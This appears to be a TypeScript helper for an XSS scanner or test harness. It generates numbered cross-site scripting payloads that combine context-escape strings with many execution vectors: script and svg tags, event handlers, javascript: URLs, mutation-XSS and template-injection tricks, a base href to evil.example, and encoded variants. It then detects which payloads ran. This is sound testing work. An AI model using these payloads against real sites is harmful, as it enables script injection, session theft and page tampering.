/** What a payload calls when it runs: the number of its field, and its own number. */
const RUN = 'ran(FIELD,NUMBER)';

/** Ways to break out of the place where a page may have written a text. */
const ESCAPES = [
  '',
  '">',
  "'>",
  '</script>',
  '</title>',
  '</textarea>',
  '</style>',
  '-->',
  '</option></select>',
  ']]>',
  '\\";',
  "');",
  '`',
  '</noscript>',
  '</template>',
];

/** Ways to run. */
const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<ScRiPt\n>${RUN}//`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<img src=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<iframe srcdoc="<script>parent.${RUN}</script>">`,
  `<iframe src="javascript:parent.${RUN}">`,
  `<details open ontoggle=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<object data="data:text/html,<script>parent.${RUN}</script>">`,
  `<a href="javascript:${RUN}">more</a><base href="//evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  ` autofocus onfocus=${RUN} x="`,
  `javascript:${RUN}//`,
  `{{constructor.constructor('${RUN}')()}}\${${RUN}}`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e&lt;script&gt;${RUN}&lt;/script&gt;%3Cscript%3E${RUN}`,
];

/** This many texts that try to run, all different; there are 300 at most. */
export function scriptPayloads(count: number): string[] {
  // Neighbors run in different ways, so that even a few payloads are of many kinds.
  return SCRIPTS.flatMap((_, turn) =>
    ESCAPES.map((escape, n) => escape + SCRIPTS[(turn + n) % SCRIPTS.length]),
  )
    .slice(0, count)
    .map((payload, number) => payload.replaceAll('NUMBER', String(number)));
}

/** A payload that names its field. */
export const inField = (payload: string, field: number) => payload.replaceAll('FIELD', `${field}`);

/** Which payloads a text contains, as 'field,number'. */
export function payloadsIn(text: string): string[] {
  return [...text.matchAll(/ran\((\d+,\d+)\)/g)].map(([, which = '']) => which);
}
